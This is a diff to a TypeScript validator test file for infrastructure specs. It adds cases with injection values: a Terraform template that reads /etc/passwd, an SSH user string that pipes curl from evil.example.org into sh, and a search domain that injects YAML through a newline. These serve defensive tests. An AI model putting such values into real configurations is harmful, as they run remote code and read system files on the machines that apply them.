@@ -108,6 +108,24 @@ const CASES: { rule: string; what: string; base: () => TestSpec; breakIt: (s: Te
     breakIt: (s) => void (vsphereOf(s).apiHost = 'https://k8s-api.teaching.example-university.ch:6443'),
   },
   {
+    rule: 'infra-terraform-literals',
+    what: 'on a vSphere name that Terraform would run as a template (reading a file of the machine that applies)',
+    base: ethTeachingSpec,
+    breakIt: (s) => void (vsphereOf(s).folder = 'teaching/${file("/etc/passwd")}'),
+  },
+  {
+    rule: 'infra-ssh-user',
+    what: 'on an SSH user that is no user name (cloud-init and Kubespray would use it as one)',
+    base: ethTeachingSpec,
+    breakIt: (s) => void ((s.infrastructure as { sshUser?: string }).sshUser = 'root; curl evil.example.org | sh'),
+  },
+  {
+    rule: 'infra-search-domains',
+    what: 'on a search domain that is no domain (netplan)',
+    base: ethTeachingSpec,
+    breakIt: (s) => void ((s.infrastructure as any).addressing = { ...(s.infrastructure as any).addressing, searchDomains: ['teaching.example.org\n  - evil'] }),
+  },
+  {
     rule: 'infra-ssh-keys',
     what: 'on a private key among the SSH keys',
     base: ethTeachingSpec,
